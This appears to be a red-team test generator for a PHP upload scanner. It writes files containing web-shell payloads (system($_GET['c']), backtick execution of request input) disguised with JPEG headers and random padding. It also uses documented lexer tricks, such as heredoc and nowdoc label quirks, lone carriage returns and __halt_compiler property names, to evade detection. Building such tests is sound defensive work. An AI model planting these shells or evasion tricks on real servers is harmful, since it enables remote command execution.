#!/usr/bin/env node
// Builds S18Q red-team files: pseudo-random filler (no "<?"; JPEG magic when OUT ends in .jpg),
// BOUND+4096 bytes of it, the payload, 4 KiB more filler. Usage:
//   node bench/redteam/s18q/mk.mjs CASE OUT [BOUND]     (BOUND default 1 MiB)
import { writeFileSync } from 'node:fs';
const [, , which, out, boundArg] = process.argv;
const BOUND = Number(boundArg ?? 1024 * 1024);
const L = (s) => Buffer.from(s, 'latin1');
export function filler(n, seed = 2463534242, jpeg = out?.endsWith('.jpg')) {
  const b = Buffer.alloc(n);
  let x = seed >>> 0;
  for (let i = 0; i < n; i++) { x ^= x << 13; x >>>= 0; x ^= x >>> 17; x ^= x << 5; x >>>= 0; b[i] = x & 0xff; }
  for (let i = b.indexOf('<?'); i >= 0; i = b.indexOf('<?', i + 1)) b[i + 1] = 0x21;
  if (jpeg) b.set([0xff, 0xd8, 0xff, 0xe0], 0);
  return b;
}
const SHELL = "system($_GET['c']);";
export const payloads = {
  // S18Q-1: heredoc header ended by a lone CR (PHP NEWLINE is \r|\n|\r\n); the lexer wants \n after \r
  'heredoc-cr': '<?php $x=<<<A\r\x01\rA;\r' + SHELL + '?>',
  // S18Q-2: heredoc label longer than 256 bytes (PHP has no limit)
  'heredoc-longlabel': '<?php $x=<<<' + 'A'.repeat(300) + '\n\x01\n' + 'A'.repeat(300) + ';\n' + SHELL + '?>',
  // S18Q-3: in a heredoc, a line starting with an escape: the lexer matches the closing label after "\\"
  'heredoc-escape': '<?php $x=<<<A\n\\\\A;\x01\nA;\n' + SHELL + '?>',
  // S18Q-4: nowdoc with the same long label
  'nowdoc-longlabel': "<?php $x=<<<'" + 'B'.repeat(300) + "'\n\x01\n" + 'B'.repeat(300) + ';\n' + SHELL + '?>',
  // S18Q-5: heredoc body line ended by a lone CR (PHP closes on "\rA;"); a later string holding "\nA;" closes it for the lexer
  'heredoc-body-cr': '<?php $x=<<<A\nx\rA;$y="\nA;\x01";' + SHELL + '?>',
  // S18Q-5b: backslash before a heredoc body's newline (PHP: still a newline; the lexer: an escaped byte)
  'heredoc-bs-nl': '<?php $x=<<<A\nx\\\nA;\n$y="\nA;\x01";' + SHELL + '?>',
  // S18Q-6: heredoc nested in {$...} of a heredoc: the lexer keeps one label, the inner one
  'heredoc-nested': '<?php $a=[1];$x=<<<A\n{$a[<<<B\n0\nB]}\nA;\n$y="\nB;\x01";' + SHELL + '?>',
  // S18Q-8: the byte that ends a heredoc's closing label is not lexed as code: "A#" opens a comment for PHP only
  'heredoc-close-hash': '<?php $x=<<<A\nx\nA#\x01\n;' + SHELL + '?>',
  'nowdoc-close-hash': "<?php $x=<<<'A'\nx\nA#\x01\n;" + SHELL + '?>',
  // same, "B}" closing a "${...}" in a string: the lexer stays in code, PHP is back in the string
  'heredoc-close-brace': '<?php $x="${<<<B\nx\nB}";$y="\x01";' + SHELL + '?>',
  // S18Q-12/13: a backtick shell the rules miss (request input through a variable), after "<?=" made not plain by a high byte in a comment
  'backtick-echo': '<?=/*\xe9*/1;$f=$_GET["c"];echo `$f`;?>',
  // S18Q-14 past the bound: request input through interpolation, "<?=" not plain
  'interp-echo': '<?=/*\xe9*/1;$f="$_GET[c]";system($f);?>',
  // control: the same shell without a trick (must not be clean)
  'control': '<?php $x=<<<A\n\x01\nA;\n' + SHELL + '?>',
  // S18Q-7: __halt_compiler as a property name ends the region for the lexer, not for PHP (short tag)
  'halt-prop': '<?$a=new stdClass;$a->__halt_compiler=1;' + SHELL + '?>',
  // same under the default ini: "<?=" is always a tag; a high byte in a comment in its first 22 bytes makes it not plain
  'halt-prop-echo': '<?=1/*\xe9*/;$a=new stdClass;$a->__halt_compiler=1;' + SHELL + '?>',
  'halt-prop-php': '<?php $a=new stdClass;$a->__halt_compiler=1;' + SHELL + '?>',
};
if (which && out) {
  if (!payloads[which]) { console.error(`cases: ${Object.keys(payloads).join(' ')}`); process.exit(64); }
  writeFileSync(out, Buffer.concat([filler(BOUND + 4096), L(payloads[which]), filler(4096, 7)]));
}
